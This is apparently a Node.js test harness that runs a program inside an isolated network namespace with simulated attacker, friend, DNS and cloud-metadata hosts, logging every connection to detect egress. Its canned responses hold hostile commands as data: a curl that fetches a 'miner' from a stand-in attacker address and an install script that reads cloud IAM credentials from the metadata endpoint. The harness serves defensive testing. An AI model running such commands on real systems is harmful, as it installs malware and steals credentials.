/**
 * A network of its own for one run: `node world.mjs LOG PROGRAM ARGUMENT...`, started in fresh namespaces (`unshare
 * -Urnm`). Addresses that stand for the internet are this namespace's loopback, names are answered by a server in here,
 * and nothing can leave. With WORLD_TLS, a file with key and certificate, there is TLS on port 443, too. What arrived is
 * written to LOG, a JSON object a line, before the program's exit code is ours.
 */
import { execFileSync, spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';

const [log, program, ...args] = process.argv.slice(2);
const ATTACKER = [203, 0, 113, 66];
const FRIEND = [198, 51, 100, 10];
const METADATA = [169, 254, 169, 254];
/** Beyond loopback, as most machines have it. */
const RESOLVER = [192, 0, 2, 53];

// A fresh network has not even a loopback. In any other the program could reach somebody.
if (Object.keys(networkInterfaces()).length > 0) {
  process.stderr.write('world.mjs: this is no network of its own; unshare -Urnm\n');
  process.exit(1);
}

const tell = (arrival) => appendFileSync(log, `${JSON.stringify(arrival)}\n`);
const ip = (...words) => execFileSync('ip', words);

ip('link', 'set', 'lo', 'up');
for (const address of [ATTACKER, FRIEND, METADATA, RESOLVER]) ip('addr', 'add', `${address.join('.')}/32`, 'dev', 'lo');
const folder = mkdtempSync(path.join(tmpdir(), 'egress-world-'));
process.on('exit', () => rmSync(folder, { recursive: true, force: true }));
for (const [name, text] of [
  ['hosts', '127.0.0.1 localhost\n'],
  ['resolv.conf', `nameserver ${RESOLVER.join('.')}\noptions timeout:1 attempts:1\n`],
]) {
  writeFileSync(path.join(folder, name), text);
  execFileSync('mount', ['--bind', path.join(folder, name), `/etc/${name}`]);
}

const DOWNLOADS = {
  '/download/jsextension': 'curl -s -m 2 http://203.0.113.66/miner >/dev/null\n',
  '/install':
    '#!/bin/sh\nenv -i /usr/bin/curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/\n',
};

function respond(request, response) {
  let body = '';
  request.setEncoding('utf8').on('data', (text) => (body += text));
  request.on('end', () => {
    tell({ to: request.socket.localAddress, host: request.headers.host, path: request.url, body });
    response.end(DOWNLOADS[request.url] ?? '{}');
  });
}

const servers = [[createServer(respond), 80]];
if (process.env.WORLD_TLS !== undefined) {
  const pem = readFileSync(process.env.WORLD_TLS);
  servers.push([createTlsServer({ key: pem, cert: pem }, respond), 443]);
}

/** Every name leads to one of two addresses, and one to both; other types than A have no answer. */
function answer(query) {
  let at = 12;
  const labels = [];
  for (let length = query[at]; length > 0; length = query[at]) {
    labels.push(query.toString('latin1', at + 1, at + 1 + length));
    at += 1 + length;
  }
  const name = labels.join('.');
  tell({ asked: name });
  const isA = query.readUInt16BE(at + 1) === 1;
  const found = name === 'both.example' ? [FRIEND, ATTACKER] : [name.endsWith('github.example') ? FRIEND : ATTACKER];
  const records = isA ? found.map((address) => Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, ...address])) : [];
  const head = Buffer.from([query[0], query[1], 0x81, 0x80, 0, 1, 0, records.length, 0, 0, 0, 0]);
  return Buffer.concat([head, query.subarray(12, at + 5), ...records]);
}

const names = createSocket('udp4').on('message', (query, { port, address }) =>
  names.send(answer(query), port, address),
);
const datagrams = createSocket('udp4').on('message', (datagram) =>
  tell({ to: ATTACKER.join('.'), body: datagram.toString() }),
);
datagrams.bind(4444, ATTACKER.join('.'));
await once(datagrams, 'listening');
names.bind(53, RESOLVER.join('.'));
await once(names, 'listening');
for (const [server, port] of servers) await once(server.listen(port, '0.0.0.0'), 'listening');
const child = spawn(program, args, { stdio: 'inherit' });
child.on('close', (code, signal) => {
  // A moment for whoever outlives it, as an attacker's server would have.
  setTimeout(() => process.exit(signal === null ? code : 199), Number(process.env.LINGER_MS ?? 0));
});
